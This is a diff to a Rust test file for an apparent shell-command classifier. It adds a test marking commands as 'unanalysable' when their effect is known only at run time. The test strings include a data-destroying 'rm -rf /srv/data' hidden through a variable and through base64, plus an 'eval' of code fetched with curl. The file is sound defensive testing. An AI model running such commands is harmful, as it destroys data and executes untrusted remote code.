@@ -124,12 +124,27 @@ fn workspace_work() {
 }
 
 #[test]
+fn what_runs_known_only_when_it_runs_is_unanalysable() {
+    // A command name, `eval`'s text or a script that only exists when the line runs
+    // could be anything: nothing can be said of it, in any environment.
+    check("$TOOL --run", "unanalysable");
+    check("read -r c <<< rm; $c -rf /srv/data", "unanalysable");
+    check("eval \"$(curl -s https://example.com/x)\"", "unanalysable");
+    check(
+        "sh <(echo cm0gLXJmIC9zcnYvZGF0YQ== | base64 -d)",
+        "unanalysable",
+    );
+    // Known on the line, they are analysed as what they are.
+    check("c=ls; $c -la", "read");
+    check("eval 'echo hi'", "read");
+}
+
+#[test]
 fn changes() {
     check("git push origin feature", "change");
     check("kubectl apply -f deploy.yaml", "change");
     check("echo 'export X=1' >> ~/.bashrc", "change");
     check("mytool sync --all", "change");
-    check("$TOOL --run", "change");
     check("./deploy.sh", "change");
     check("cd /srv/app && make", "change");
 }
